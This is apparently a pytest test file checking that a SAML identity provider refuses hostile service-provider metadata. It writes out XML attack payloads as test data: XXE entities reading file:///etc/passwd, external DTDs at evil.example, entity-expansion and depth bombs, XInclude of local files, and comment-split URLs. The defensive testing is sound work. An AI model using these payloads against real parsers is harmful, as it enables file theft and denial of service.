"""Metadata files that an operator is talked into adding: none reads or fetches, costs or shows more than it may.

What is fetched from a federation is attacked in its own file; behind the fetching stands the same reader.
"""

import gzip
import logging
import socket
from pathlib import Path

import pytest

from idp.domain.registration import RegistrationRefused
from idp.protocols.saml.sites.registration import Registration
from idp.protocols.saml.xml.documents import PORTION, DocumentRefused, Work
from tests.support.office import NAMES, Office
from tests.support.saml import RETURN_URL, SITE_ID, a_return_address, an_rsa_signer
from tests.support.site_metadata import a_key, a_wish, an_attribute_set, both_keys, reader, site_metadata, subject_id

GOOD = site_metadata()
MEGABYTE = 1024 * 1024
MOST_ELEMENTS = 5000


def refusal(text: str) -> RegistrationRefused:
    with pytest.raises(RegistrationRefused) as refused:
        reader().read(text, marks=frozenset())
    return refused.value


def work(text: str) -> Work:
    """What the parser did before it gave up."""
    cause = refusal(text).__cause__
    assert isinstance(cause, DocumentRefused)
    return cause.work


def registration(text: str) -> Registration:
    return reader().registration(text, frozenset())


def test_file_that_all_others_are_made_from_is_accepted() -> None:
    assert registration(GOOD).entity_id == SITE_ID


# As the operator meets them.


def unusable(why: str) -> str:
    return f"the metadata cannot be used: {why}\n"


def wrong(place: str, words: str) -> str:
    return f"Nothing was changed. This is wrong:\n  {place}\n      {words}\n"


def not_well_formed(line: int) -> str:
    return wrong(f"line {line}", "the metadata cannot be used: not well-formed XML")


def before(prolog: str) -> bytes:
    """`prolog` in front of a good file, whose site is named by the entity `a`, if there is one."""
    return (prolog + (GOOD.replace(">Sample ministry<", ">&a;<") if "ENTITY a" in prolog else GOOD)).encode()


def within(xml: str) -> bytes:
    """`xml` where metadata may be extended."""
    return site_metadata(extensions=f'<x:a xmlns:x="urn:x">{xml}</x:a>').encode()


TEN_TIMES = "".join(f'<!ENTITY {name} "{f"&{other};" * 10}">' for name, other in ("cd", "bc", "ab"))
COMMENTED = "https://ministry.example<!-- -->.evil.example/"
ESCAPED = COMMENTED.replace("<", "&lt;")
DOCUMENT_TYPE = unusable("has a document type")
NOT_TEXT = "{file}: is not text in UTF-8\n"
TOO_LONG = f"{{file}}: longer than {16 * MEGABYTE} bytes\n"

AT_THE_DESK: dict[str, tuple[bytes, str]] = {
    "document type": (before("<!DOCTYPE x>"), DOCUMENT_TYPE),
    "document type behind a byte order mark": (b"\xef\xbb\xbf" + before("<!DOCTYPE x>"), DOCUMENT_TYPE),
    "entity": (before('<!DOCTYPE x [<!ENTITY a "b">]>'), DOCUMENT_TYPE),
    "external entity": (before('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), DOCUMENT_TYPE),
    "entities in entities": (before(f'<!DOCTYPE x [<!ENTITY d "lol">{TEN_TIMES}]>'), DOCUMENT_TYPE),
    "document type as UTF-7": (
        before('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'),
        not_well_formed(1),
    ),
    "depth": (b"<a>" * 300_000, not_well_formed(1)),
    "depth, closed": (within("<a>" * 40 + "</a>" * 40), unusable("nested too deeply")),
    "elements": (within("<a/>" * 200_000), unusable("too many elements")),
    "namespaces": (within('<a xmlns="urn:a"/>' * 30_000), unusable("too many namespace declarations")),
    "attributes": (within("<a " + 'x="" ' * 50_000 + "/>"), not_well_formed(2)),
    "two megabytes": (GOOD.encode() + b" " * (2 * MEGABYTE), unusable("too many bytes")),
    "fifty megabytes": (GOOD.encode() + b" " * (50 * MEGABYTE), TOO_LONG),
    "comment in the entityID": (GOOD.replace(SITE_ID, COMMENTED).encode(), not_well_formed(1)),
    "comment in an address": (GOOD.replace(RETURN_URL, COMMENTED).encode(), not_well_formed(12)),
    "escaped comment in the entityID": (
        GOOD.replace(SITE_ID, ESCAPED).encode(),
        wrong("line 1, md:EntityDescriptor", f"its entityID '{COMMENTED}' must be an absolute URI"),
    ),
    "escaped comment in an address": (
        GOOD.replace(RETURN_URL, ESCAPED).encode(),
        wrong(
            "line 12, md:SPSSODescriptor/md:AssertionConsumerService",
            f"its Location '{COMMENTED}' must be an absolute https address without user name or fragment",
        ),
    ),
    "UTF-16": (GOOD.encode("utf-16"), NOT_TEXT),
    "UTF-32": (GOOD.encode("utf-32"), NOT_TEXT),
    "Shift_JIS": (GOOD.encode("shift_jis"), NOT_TEXT),
    "UTF-16 that is UTF-8, too": ("<!DOCTYPE x><x/>".encode("utf-16-le"), not_well_formed(1)),
    "packed": (gzip.compress(GOOD.encode()), NOT_TEXT),
    "octet that no XML holds": (GOOD.encode() + b"\0", not_well_formed(GOOD.count("\n") + 1)),
}


@pytest.mark.parametrize("name", AT_THE_DESK)
def test_hostile_file_is_refused_in_plain_words_and_registers_nothing(
    office: Office, caplog: pytest.LogCaptureFixture, name: str
) -> None:
    content, words = AT_THE_DESK[name]
    assert content != GOOD.encode()
    office.sector("tax")
    file = office.folder / "hostile.xml"
    file.write_bytes(content)
    with caplog.at_level(logging.DEBUG):
        said = office.idp("sp", "add", str(file), "--sector", "tax", *NAMES)
    assert (said.status, said.out, said.err) == (1, "", words.format(file=file))
    assert caplog.records == []
    assert "no service provider is registered" in office.idp("sp", "list", "--all").out


def test_file_without_an_end_is_refused(office: Office) -> None:
    office.sector("tax")
    said = office.idp("sp", "add", "/dev/zero", "--sector", "tax", *NAMES)
    assert (said.status, said.out, said.err) == (1, "", TOO_LONG.format(file="/dev/zero"))


@pytest.mark.parametrize("name", ["document type as UTF-7", "comment in an address", "Shift_JIS", "fifty megabytes"])
def test_hostile_file_changes_nothing_of_a_site_that_is_there(office: Office, name: str) -> None:
    office.add(GOOD, "--id", "ministry")
    before_it = office.idp("sp", "show", "ministry").out
    file = office.folder / "hostile.xml"
    file.write_bytes(AT_THE_DESK[name][0])
    said = office.idp("sp", "update", "ministry", str(file))
    assert (said.status, said.out, said.err) == (1, "", AT_THE_DESK[name][1].format(file=file))
    assert office.idp("sp", "show", "ministry").out == before_it


def test_nothing_that_a_file_names_is_fetched(office: Office) -> None:
    office.sector("tax")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)  # noqa: FBT003 (the standard library's)
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
        schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}"'
        for text in (
            f'<!DOCTYPE x SYSTEM "{url}">{GOOD}',
            f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>{GOOD}',
            f'<?xml-stylesheet href="{url}"?>{site_metadata(attributes=schema)}',
            within(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>').decode(),
        ):
            office.idp("sp", "add", office.file("naming.xml", text), "--sector", "tax", *NAMES)
            with pytest.raises(BlockingIOError):
                listener.accept()


# In work.


@pytest.mark.parametrize(
    "declaration",
    [
        "<!DOCTYPE x>",
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/a"> %a;]>',
    ],
)
def test_document_type_is_refused_before_a_parser_sees_it(declaration: str) -> None:
    text = declaration + GOOD.replace("Sample ministry", "&a;")
    assert str(refusal(text)) == "the metadata cannot be used: has a document type"
    assert work(text) == Work(bytes=0, elements=0)


def test_document_type_in_another_encoding_is_no_document_type() -> None:
    text = '<!DOCTYPE x [<!ENTITY a "b">]>'.encode("utf-16").decode("latin-1") + GOOD
    assert "not well-formed" in str(refusal(text))


def test_fifty_megabytes_are_refused_unparsed() -> None:
    text = GOOD + " " * (50 * MEGABYTE)
    assert str(refusal(text)) == "the metadata cannot be used: too many bytes"
    assert work(text) == Work(bytes=0, elements=0)


@pytest.mark.parametrize("bomb", ["<a>" * 300_000, GOOD.replace("<md:Organization>", "<a>" * 300_000, 1)])
def test_depth_bomb_is_given_up_within_a_portion(bomb: str) -> None:
    done = work(bomb)
    assert done.bytes <= len(GOOD) + 2 * PORTION
    assert done.elements <= MOST_ELEMENTS


def test_flood_of_elements_is_given_up_where_it_passes_the_bound() -> None:
    done = work("<a>" + "<b/>" * 250_000 + "</a>")
    assert done.elements == MOST_ELEMENTS + 1
    assert done.bytes <= MOST_ELEMENTS * len("<b/>") + 2 * PORTION


def test_file_is_not_made_to_include_another(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text("<secret>x</secret>")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    [fault] = refusal(GOOD.replace("<md:Organization>", include + "<md:Organization>")).faults
    assert "This element is not expected" in fault.words


@pytest.mark.parametrize("sign", ["<!-- -->", "<?x?>", "<![CDATA[]]>"])
def test_name_cannot_be_divided_by_what_readers_skip(sign: str) -> None:
    assert "not well-formed" in str(refusal(GOOD.replace(SITE_ID, f"https://ministry.example{sign}.evil.example/")))
    assert "not well-formed" in str(refusal(GOOD.replace(RETURN_URL, f"https://ministry.example{sign}.evil.example/")))


@pytest.mark.parametrize("sign", ["&#60;!-- --&#62;", "&#xA;", "&#x202E;", "&#x9B;31m", "&#xAD;", "&#x3002;", "\\"])
def test_name_and_address_hold_no_sign_that_reads_otherwise(sign: str) -> None:
    divided = f"https://ministry.example{sign}.evil.example/"
    for text in (GOOD.replace(SITE_ID, divided), GOOD.replace(RETURN_URL, divided)):
        faults = refusal(text).faults
        assert all(str(fault).isprintable() for fault in faults)


def test_words_of_the_schema_show_no_sign_as_it_is() -> None:
    faults = refusal(site_metadata(attributes='validUntil="&#x9B;31m&#x202E;"')).faults
    assert len(faults) == 2
    assert all(str(fault).isprintable() for fault in faults)


@pytest.mark.parametrize("sign", ["<!-- -->", "<?x?>", "<![CDATA[]]>"])
def test_text_is_read_whole_across_what_readers_skip(sign: str) -> None:
    divided = site_metadata(extensions=subject_id(f"any{sign}thing"))
    assert "must have one value: pairwise-id, any or none" in str(refusal(divided))
    assert registration(site_metadata(extensions=subject_id(f"an{sign}y"))) == registration(
        site_metadata(extensions=subject_id("any"))
    )


HIDDEN = '<x:hidden xmlns:x="urn:x">{}</x:hidden>'


def test_key_and_address_hidden_in_an_extension_are_not_the_site_s() -> None:
    key = a_key("signing", name="attacker")
    address = a_return_address("https://evil.example/", 1, extra='isDefault="true"')
    role = f'<md:SPSSODescriptor protocolSupportEnumeration="urn:x">{key}{address}</md:SPSSODescriptor>'
    for hidden in (key, address, role):
        for read in (
            registration(site_metadata(extensions=HIDDEN.format(hidden))),
            registration(site_metadata(role_extensions=HIDDEN.format(hidden))),
        ):
            assert read.signing_keys == (an_rsa_signer("site").public_key,)
            assert read.default_consumer().url == RETURN_URL


def test_key_of_another_role_is_not_the_site_s() -> None:
    other = (
        '<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        f'{a_key("signing", name="attacker")}<md:SingleSignOnService Binding="urn:x" Location="https://evil.example/"/>'
        "</md:IDPSSODescriptor>"
    )
    text = GOOD.replace("<md:SPSSODescriptor", f"{other}<md:SPSSODescriptor", 1)
    assert registration(text) == registration(GOOD)


def test_entity_inside_an_entity_makes_two() -> None:
    text = site_metadata(extensions=HIDDEN.format(site_metadata(entity_id="https://evil.example")))
    assert "must describe one entity, in one md:EntityDescriptor, and describes 2" in str(refusal(text))


@pytest.mark.parametrize(
    "text",
    [
        site_metadata(entity_id="x" * 900_000),
        site_metadata(attributes=f'validUntil="{"x" * 900_000}"'),
        site_metadata(attributes=" ".join(f'a{number}=""' for number in range(5000))),
        site_metadata(consumers=["<md:AssertionConsumerService/>"] * 4000),
        site_metadata(consumers=[a_return_address(f"http://{'a' * 400}.example/", 1)] * 1500),
        site_metadata(keys=["<md:KeyDescriptor><ds:KeyInfo/></md:KeyDescriptor>"] * 1500),
        site_metadata(organization=f"<{'x' * 40_000}/>"),
    ],
    ids=["entityID", "end", "attributes", "empty addresses", "long addresses", "empty keys", "long name"],
)
def test_what_the_operator_is_told_stays_short(text: str) -> None:
    faults = refusal(text).faults
    assert len(faults) <= 51
    assert all(len(str(fault)) < 1000 for fault in faults)


def test_what_the_operator_is_warned_of_stays_short() -> None:
    wishes = [a_wish(f"urn:{'x' * 150}:{number}", extra='FriendlyName="x"') for number in range(4000)]
    read = reader().read(site_metadata(attribute_sets=an_attribute_set(*wishes)), marks=frozenset())
    assert len(read.warnings) <= 51
    assert all(len(str(warning)) < 1000 for warning in read.warnings)


def test_keys_beyond_the_bound_are_not_even_read() -> None:
    broken = a_key("signing").replace("MII", "AAA")
    faults = refusal(site_metadata(keys=[*both_keys(), *[broken] * 300])).faults
    assert len([fault for fault in faults if "cannot be read" in fault.words]) == 14
